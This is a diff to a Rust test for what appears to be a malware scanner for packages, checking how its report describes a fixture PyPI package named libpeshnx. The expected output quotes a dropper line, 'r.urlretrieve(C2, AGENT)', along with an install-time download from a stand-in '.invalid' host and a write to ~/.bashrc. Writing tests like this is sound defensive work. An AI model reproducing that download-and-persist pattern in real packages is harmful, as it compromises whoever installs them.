@@ -79,12 +79,31 @@ fn text_report_tells_the_libpeshnx_story() {
     let (code, out) = run(&["scan", dir.to_str().unwrap()]);
     assert_eq!(code, 1);
     assert!(out.contains("MALICIOUS  libpeshnx 0.1 (pypi)"), "{out}");
+    // The story comes first, then why, then the worst finding with its code line.
+    let story = out.lines().nth(1).unwrap();
     assert!(
-        out.contains("dropper-chain libpeshnx-0.1/setup.py:17"),
+        story.starts_with("  at install time: downloads the executable `http://update.libpeshka.invalid/dev/agent.py`"),
         "{out}"
     );
-    assert!(out.contains("> r.urlretrieve(C2, AGENT)"), "{out}");
+    assert!(story.contains("writes `~/.bashrc`"), "{out}");
+    assert!(
+        out.lines()
+            .nth(2)
+            .unwrap()
+            .starts_with("  why malicious: `dropper-chain` at libpeshnx-0.1/setup.py:17"),
+        "{out}"
+    );
+    assert!(
+        out.contains("  libpeshnx-0.1/setup.py:17\n      │ r.urlretrieve(C2, AGENT)\n"),
+        "{out}"
+    );
+    let chain = out.find("critical dropper-chain").unwrap();
+    assert!(
+        chain < out.find("high     download-at-install").unwrap(),
+        "{out}"
+    );
     assert!(out.contains("1 packages: 1 malicious"), "{out}");
+    assert!(!out.contains('\x1b'), "no colour when piped: {out}");
 }
 
 #[test]
